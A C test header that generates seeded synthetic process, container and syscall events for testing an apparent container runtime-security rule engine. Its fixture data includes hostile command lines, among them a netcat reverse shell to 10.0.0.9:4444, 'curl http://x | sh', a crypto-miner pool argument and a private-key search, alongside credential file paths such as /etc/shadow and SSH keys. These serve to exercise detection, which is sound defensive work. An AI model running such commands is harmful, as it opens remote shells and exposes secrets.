/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Events made up from a seed: a set of processes and containers, and events on them that look like
 * those of a busy container host. `wild` makes all members vary independently and often absent, for
 * property tests; otherwise the shares follow a host that runs web servers, databases and builds:
 * most events are opens by long-running processes, and few are what any rule looks for.
 */
#ifndef SK_TESTS_EXPR_EVENTS_H
#define SK_TESTS_EXPR_EVENTS_H

#include <stdlib.h>

#include "model/evt.h"
#include "model/nouns.h"

#define EV_PROCS 512
#define EV_CONTAINERS 16

struct ev_world {
    uint64_t seed;
    struct sk_process procs[EV_PROCS];
    struct sk_container containers[EV_CONTAINERS];
    struct sk_mount mounts[3];
    struct sk_label labels[2];
    char text[EV_PROCS][160];
    char ids[EV_CONTAINERS][65];
};

static uint64_t ev_rand(struct ev_world *w)
{
    w->seed ^= w->seed << 13;
    w->seed ^= w->seed >> 7;
    w->seed ^= w->seed << 17;
    return w->seed * 0x2545f4914f6cdd1dull >> 8;
}
static uint64_t ev_below(struct ev_world *w, uint64_t n)
{
    return ev_rand(w) % n;
}
static bool ev_chance(struct ev_world *w, unsigned pct)
{
    return ev_below(w, 100) < pct;
}

#define EV_S(x) SK_STR_INIT(x)
static const struct sk_str ev_names[] = {
    EV_S("nginx"),
    EV_S("postgres"),
    EV_S("java"),
    EV_S("node"),
    EV_S("python3"),
    EV_S("redis-server"),
    EV_S("containerd-shim"),
    EV_S("dockerd"),
    EV_S("cc1"),
    EV_S("make"),
    EV_S("gcc"),
    EV_S("ld"),
    EV_S("sh"),
    EV_S("bash"),
    EV_S("cat"),
    EV_S("grep"),
    EV_S("ls"),
    EV_S("runc:[2:INIT]"),
    EV_S("apt-get"),
    EV_S("dpkg"),
    EV_S("sshd"),
    EV_S("cron"),
    EV_S("systemd"),
    EV_S("kubelet"),
    EV_S("nc"),
    EV_S("curl"),
    EV_S("wget"),
    EV_S("find"),
    EV_S("useradd"),
    EV_S("sudo"),
    EV_S("pkexec"),
    EV_S("httpd"),
    EV_S("php-fpm"),
    EV_S("xmrig"),
    EV_S("kubectl"),
    EV_S("awk"),
    EV_S("tar"),
    EV_S("npm"),
};
static const struct sk_str ev_files[] = {
    EV_S("/usr/lib/x86_64-linux-gnu/libc.so.6"),
    EV_S("/etc/ld.so.cache"),
    EV_S("/proc/self/stat"),
    EV_S("/usr/include/stdio.h"),
    EV_S("/var/lib/postgresql/data/base/16384/2619"),
    EV_S("/srv/app/node_modules/express/lib/router/index.js"),
    EV_S("/tmp/ccX8s2.s"),
    EV_S("/sys/fs/cgroup/memory.stat"),
    EV_S("/proc/1234/status"),
    EV_S("/var/log/nginx/access.log"),
    EV_S("/dev/null"),
    EV_S("/etc/passwd"),
    EV_S("/etc/nsswitch.conf"),
    EV_S("/etc/hosts"),
    EV_S("/usr/share/zoneinfo/Etc/UTC"),
    EV_S("/app/build/main.o"),
    EV_S("/home/dev/src/main.c"),
    EV_S("/var/cache/apt/pkgcache.bin"),
    EV_S("/run/secrets/kubernetes.io/serviceaccount/token"),
    EV_S("/etc/shadow"),
    EV_S("/root/.ssh/id_rsa"),
    EV_S("/home/dev/.ssh/authorized_keys"),
    EV_S("/etc/cron.d/job"),
    EV_S("/usr/bin/python3.11"),
    EV_S("/var/lib/rpm/Packages"),
    EV_S("/root/.bash_history"),
    EV_S("/etc/sudoers.d/x"),
    EV_S("/proc/sys/kernel/core_pattern"),
    EV_S("/dev/sda1"),
    EV_S("/tmp/../etc/shadow"),
    EV_S("/host/etc/shadow"),
    EV_S("/bin/su"),
};
static const struct sk_str ev_args[] = {
    EV_S("-g daemon off;"),
    EV_S("-c import socket"),
    EV_S("-jar /srv/app.jar"),
    EV_S("-c id"),
    EV_S("-e /bin/sh 10.0.0.9 4444"),
    EV_S("/srv/app/server.js"),
    EV_S("-O2 -c main.c -o main.o"),
    EV_S("-la /"),
    EV_S("/etc/shadow"),
    EV_S("-c curl http://x | sh"),
    EV_S(""),
    EV_S("-u root -i"),
    EV_S("-name id_rsa"),
    EV_S("install -y curl"),
    EV_S("-o stratum+tcp://pool:3333"),
    EV_S("exec -it web -- sh"),
    EV_S("-c uname -p 2> /dev/null"),
    EV_S("--decode payload base64"),
    EV_S("-iR BEGIN RSA PRIVATE /"),
    EV_S("-D /etc/nginx/nginx.conf"),
};
static const struct sk_str ev_users[] = {EV_S("root"), EV_S("www-data"), EV_S("postgres"),
                                         EV_S("dev"),  EV_S("nobody"),   EV_S("sshd")};
static const struct sk_str ev_images[] = {
    EV_S("docker.io/library/nginx"),       EV_S("postgres"),
    EV_S("quay.io/prometheus/prometheus"), EV_S("registry.local/shop/cart"),
    EV_S("falcosecurity/falco"),           EV_S("redis"),
};
#define EV_PICK(w, a) ((a)[ev_below((w), SK_ARRAY_LEN(a))])

static void ev_container(struct ev_world *w, size_t i)
{
    struct sk_container *c = &w->containers[i];

    (void)snprintf(w->ids[i], sizeof(w->ids[i]), "%016llx%016llx%016llx%016llx",
                   (unsigned long long)ev_rand(w), (unsigned long long)ev_rand(w),
                   (unsigned long long)ev_rand(w), (unsigned long long)ev_rand(w));
    *c = (struct sk_container){.id = sk_str_c(w->ids[i]),
                               .name = EV_PICK(w, ev_names),
                               .runtime = SK_RT_DOCKER,
                               .state = SK_CS_RUNNING,
                               .started = 1700000000000000000,
                               .privileged = ev_chance(w, 10)};
    c->image_repository = EV_PICK(w, ev_images);
    c->image = c->image_repository;
    c->image_tag = SK_STR("1.25");
    if (ev_chance(w, 30))
        c->k8s_namespace = ev_chance(w, 50) ? SK_STR("kube-system") : SK_STR("shop");
    if (ev_chance(w, 30))
        c->mounts = (struct sk_list){w->mounts, 1 + ev_below(w, 3)};
    if (ev_chance(w, 50))
        c->labels = (struct sk_list){w->labels, 2};
}

static void ev_process(struct ev_world *w, size_t i)
{
    struct sk_process *p = &w->procs[i];
    struct sk_str args = EV_PICK(w, ev_args);
    size_t user = ev_below(w, SK_ARRAY_LEN(ev_users));
    int n;

    *p = (struct sk_process){.pid = 1000 + i, .vpid = i % 7 + 1, .tid = 1000 + i};
    p->name = EV_PICK(w, ev_names);
    n = snprintf(w->text[i], sizeof(w->text[i]), "/usr/bin/%.*s", SK_STR_ARG(p->name));
    p->exe = p->exepath = sk_str_n(w->text[i], (size_t)n);
    n += 1;
    p->cmdline.p = w->text[i] + n;
    n += snprintf(w->text[i] + n, sizeof(w->text[i]) - (size_t)n, "%.*s%s%.*s", SK_STR_ARG(p->name),
                  args.n ? " " : "", SK_STR_ARG(args));
    p->cmdline.n = (size_t)(w->text[i] + n - p->cmdline.p);
    p->args = sk_str_sub(p->cmdline, p->cmdline.n - args.n, p->cmdline.n);
    p->cwd = SK_STR("/srv");
    p->env = ev_chance(w, 10) ? SK_STR("PATH=/bin HTTP_PROXY=http://x GLIBC_TUNABLES=a")
                              : SK_STR("PATH=/usr/bin HOME=/root LANG=C");
    p->uid = (uint32_t)user * 33;
    p->user = ev_users[user];
    p->group = ev_users[user];
    p->loginuid = ev_chance(w, 80) ? UINT32_MAX : (uint32_t)ev_below(w, 2) * 1000;
    p->cap_effective = p->cap_permitted = user ? 0 : ev_chance(w, 20) ? 0x1ffffffffff : 0xa80425fb;
    p->tty = ev_chance(w, 10) ? 34816 : 0;
    p->exe_upper = ev_chance(w, 3);
    p->exe_memfd = ev_chance(w, 1);
    p->is_vpgid_leader = ev_chance(w, 30);
    p->start_time = 1700000000000000000 + (int64_t)ev_below(w, 1000000000000);
    if (i)
        p->parent = &w->procs[ev_below(w, i)];
    if (p->parent)
        p->ppid = p->parent->pid;
    p->sid = p->parent && ev_chance(w, 70) ? p->parent->pid : p->pid;
    p->pgid = ev_chance(w, 50) ? p->pid : p->sid;
    if (ev_chance(w, 80))
        p->container_id = w->containers[ev_below(w, EV_CONTAINERS)].id;
    else if (ev_chance(w, 10))
        p->container_id = SK_STR("pending");
}

static void ev_world_init(struct ev_world *w, uint64_t seed)
{
    size_t i;

    w->seed = seed * 0x9e3779b97f4a7c15ull + 1;
    w->mounts[0] =
        (struct sk_mount){SK_STR("/srv/data"), SK_STR("/data"), SK_STR("rw"), SK_STR("bind"), true};
    w->mounts[1] = (struct sk_mount){SK_STR("/var/run/docker.sock"), SK_STR("/var/run/docker.sock"),
                                     SK_STR("rw"), SK_STR("bind"), true};
    w->mounts[2] = (struct sk_mount){SK_STR("/proc"), SK_STR("/host/proc"), SK_STR("ro"),
                                     SK_STR("bind"), false};
    w->labels[0] = (struct sk_label){SK_STR("app"), SK_STR("web")};
    w->labels[1] = (struct sk_label){SK_STR("team.name"), SK_STR("shop")};
    for (i = 0; i < EV_CONTAINERS; i++)
        ev_container(w, i);
    for (i = 0; i < EV_PROCS; i++)
        ev_process(w, i);
}

static const struct sk_container *ev_container_of(struct ev_world *w, const struct sk_process *p)
{
    size_t i;

    for (i = 0; i < EV_CONTAINERS && p; i++)
        if (p->container_id.n == 64 && sk_str_eq(p->container_id, w->containers[i].id))
            return &w->containers[i];
    return NULL;
}

static void ev_file(struct ev_world *w, struct sk_event *e, struct sk_str path)
{
    ssize_t slash = sk_str_rchr(path, '/');

    e->evt.path = path;
    e->fd.name = path;
    e->fd.typechar = SK_FD_FILE;
    e->fd.directory = slash > 0 ? sk_str_sub(path, 0, (size_t)slash) : SK_STR("/");
    e->fd.filename = sk_str_sub(path, (size_t)slash + 1, path.n);
    e->fd.upper = ev_chance(w, 5);
}

static void ev_ip(struct ev_world *w, struct sk_ip *ip)
{
    static const uint8_t first[] = {10, 127, 172, 192, 8, 52};

    *ip = (struct sk_ip){.family = 4};
    ip->addr[0] = EV_PICK(w, first);
    ip->addr[1] = (uint8_t)(ip->addr[0] == 192 ? 168 : ip->addr[0] == 172 ? 16 : ev_below(w, 2));
    ip->addr[3] = (uint8_t)ev_below(w, 4);
}

static void ev_socket(struct ev_world *w, struct sk_event *e)
{
    static const uint32_t ports[] = {80, 443, 22, 5432, 6443, 3333, 40000, 53, 8080, 4444};

    e->fd.typechar = SK_FD_IPV4;
    e->fd.l4proto = ev_chance(w, 80) ? SK_L4_TCP : SK_L4_UDP;
    ev_ip(w, &e->fd.cip);
    ev_ip(w, &e->fd.sip);
    e->fd.lip = e->fd.cip;
    e->fd.rip = e->fd.sip;
    e->fd.cport = e->fd.lport = 30000 + (uint32_t)ev_below(w, 30000);
    e->fd.sport = e->fd.rport = EV_PICK(w, ports);
    e->fd.name = SK_STR("10.0.0.1:40000->10.0.0.2:80");
}

static void ev_open(struct ev_world *w, struct sk_event *e, bool wild)
{
    /* the first 19 files are everyday ones */
    size_t n = wild || ev_chance(w, 1) ? SK_ARRAY_LEN(ev_files) : 19;

    e->evt.type = SK_E_OPENAT;
    ev_file(w, e, ev_files[ev_below(w, n)]);
    e->evt.is_open_write = ev_chance(w, 15);
    e->evt.is_open_read = !e->evt.is_open_write || ev_chance(w, 30);
    e->evt.is_open_create = e->evt.is_open_write && ev_chance(w, 50);
    e->evt.flags =
        (e->evt.is_open_write ? 1u : 0u) | (e->evt.is_open_create ? 0100u : 0u) | 02000000u;
    if (ev_chance(w, 20)) {
        e->evt.rawres = -2;
        e->evt.failed = true;
        e->fd.num = -1;
    } else {
        e->evt.rawres = e->fd.num = 3 + (int64_t)ev_below(w, 60);
    }
}

static void ev_other(struct ev_world *w, struct sk_event *e, bool wild)
{
    static const uint32_t types[] = {
        SK_E_UNLINKAT,     SK_E_RENAME,       SK_E_RENAMEAT2,   SK_E_MKDIRAT,   SK_E_FCHMODAT,
        SK_E_FCHMOD,       SK_E_SYMLINKAT,    SK_E_LINKAT,      SK_E_KILL,      SK_E_SETUID,
        SK_E_SETNS,        SK_E_UNSHARE,      SK_E_MOUNT,       SK_E_PTRACE,    SK_E_BPF,
        SK_E_FINIT_MODULE, SK_E_MEMFD_CREATE, SK_E_USERFAULTFD, SK_E_DUP2,      SK_E_SOCKET,
        SK_E_SENDTO,       SK_E_RECVFROM,     SK_E_LISTEN,      SK_E_CONTAINER, SK_E_RMDIR,
        SK_E_OPEN,
    };

    e->evt.type = EV_PICK(w, types);
    ev_file(w, e, ev_files[ev_below(w, wild ? SK_ARRAY_LEN(ev_files) : 19)]);
    e->evt.oldpath = EV_PICK(w, ev_files);
    e->evt.newpath = EV_PICK(w, ev_files);
    e->evt.mode = ev_chance(w, 50) ? 0755 : 04711;
    e->evt.flags = (uint32_t)ev_rand(w) & 0x7e020000;
    e->evt.arg0 = (int64_t)ev_below(w, 40);
    e->fd.num = 7;
    if (e->evt.type >= SK_E_CONNECT && e->evt.type <= SK_E_TCPCLOSE && e->evt.type != SK_E_SOCKET)
        ev_socket(w, e);
    else if (e->evt.type == SK_E_DUP2 && ev_chance(w, 20))
        ev_socket(w, e), e->evt.rawres = (int64_t)ev_below(w, 4);
}

/* Shares of a host that runs services and builds: 80 % opens, 6 % exec and fork, 7 % sockets. */
static void ev_make(struct ev_world *w, bool wild, struct sk_event *e)
{
    uint64_t roll = ev_below(w, 100);

    *e = (struct sk_event){.hostname = SK_STR("node-1")};
    e->proc = &w->procs[ev_below(w, EV_PROCS)];
    e->container = ev_container_of(w, e->proc);
    e->evt.num = 1 + ev_below(w, 1000000);
    e->evt.time = 1700000001000000000 + (int64_t)ev_below(w, 100000000000);
    if (wild)
        roll = 40 + ev_below(w, 60);
    if (roll < 80) {
        ev_open(w, e, wild);
    } else if (roll < 84) {
        e->evt.type = ev_chance(w, 90) ? SK_E_EXECVE : SK_E_EXECVEAT;
        e->evt.path = e->proc->exepath;
        e->fd.num = -1;
    } else if (roll < 88) {
        e->evt.type = ev_chance(w, 50) ? SK_E_CLONE : SK_E_PROCEXIT;
        e->fd.num = -1;
    } else if (roll < 95) {
        e->evt.type = ev_chance(w, 60) ? SK_E_CONNECT : ev_chance(w, 80) ? SK_E_ACCEPT4 : SK_E_BIND;
        e->fd.num = 5;
        ev_socket(w, e);
        e->evt.rawres = ev_chance(w, 80) ? 0 : -115;
    } else {
        ev_other(w, e, wild);
    }
    if (wild && ev_chance(w, 3))
        e->proc = NULL;
    if (wild && ev_chance(w, 10))
        e->container = NULL;
    if (wild && ev_chance(w, 5))
        e->fd = (struct sk_fd){.num = -1};
    if (wild && ev_chance(w, 2))
        e->evt.type = (uint32_t)ev_below(w, SK_E_MAX + 3);
}

#endif
